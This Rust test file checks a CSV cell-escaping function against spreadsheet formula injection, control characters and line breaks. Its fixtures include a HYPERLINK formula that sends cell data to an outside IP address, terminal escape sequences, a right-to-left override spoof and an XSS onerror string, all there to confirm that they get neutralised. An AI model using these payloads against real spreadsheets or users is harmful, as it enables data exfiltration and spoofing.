//! What a spreadsheet must not run, and what a CSV cell makes of it.

use portolan::write::guarded;

/// The labels of scenario S12, and what a CSV cell makes of each.
const LABELS: &[(&str, &str)] = &[
    (
        "=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"ok\")",
        "'=HYPERLINK(\"http://203.0.113.9/?\"&A1,\"ok\")",
    ),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("a\r\n=2+2", "a ⏎ =2+2"),
    ("x\u{1b}]0;pwn\u{7}\u{1b}[2J", "x\\u{1b}]0;pwn\\u{7}\\u{1b}[2J"),
    ("com.apple.\u{202e}gnp.x", "com.apple.\\u{202e}gnp.x"),
    ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    ("a|b`c", "a|b`c"),
];

#[test]
fn the_labels_of_the_injection_scenario_are_neutral_in_csv() {
    for (label, cell) in LABELS {
        assert_eq!(guarded(label), *cell, "{label:?}");
    }
}

#[test]
fn a_formula_hides_behind_no_blank_control_or_invisible_character() {
    for front in [" ", "\u{a0}", "\u{feff}", "\u{200b}", "\u{0}", "\r", "\n", "\u{2028}", "\u{1b}"]
    {
        for sign in ["=", "+", "-", "@", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}"] {
            let cell = guarded(&format!("{front}{sign}1")).into_owned();
            assert!(cell.starts_with('\''), "{front:?}{sign}");
        }
    }
}

#[test]
fn a_leading_tab_or_line_break_is_guarded_even_before_plain_text() {
    for value in ["\tplain", "\rplain", "\nplain"] {
        assert!(guarded(value).starts_with('\''), "{value:?}");
    }
}

#[test]
fn plain_text_and_a_lone_dash_stay_as_they_are() {
    for value in ["-", "com.apple.rapportd", "*", "a=b", "a\tb", "/usr/libexec/rapportd", "é ⏎"]
    {
        assert_eq!(guarded(value), value);
    }
}

#[test]
fn taking_away_one_quote_gives_the_value_back() {
    for value in ["=1", "'=1", "''", "'quoted'", "-03:00", "@0x10"] {
        let cell = guarded(value).into_owned();
        assert_eq!(cell.strip_prefix('\''), Some(value));
    }
}

#[test]
fn every_line_break_becomes_one_mark() {
    assert_eq!(
        guarded("a\r\nb\nc\rd\u{2028}e\u{2029}f\u{85}g\u{b}h"),
        "a ⏎ b ⏎ c ⏎ d ⏎ e ⏎ f ⏎ g ⏎ h"
    );
}

#[test]
fn no_cell_of_any_text_holds_a_line_break_a_control_or_a_bare_formula() {
    arbtest::arbtest(|u| {
        let text: String = u.arbitrary()?;
        let cell = guarded(&text).into_owned();
        assert!(!cell.contains(|one: char| one != '\t' && portolan::model::is_unsafe(one)));
        let bare = cell.trim_start().starts_with(['=', '+', '-', '@']) && text != "-";
        assert!(!bare, "{text:?} → {cell:?}");
        Ok(())
    });
}
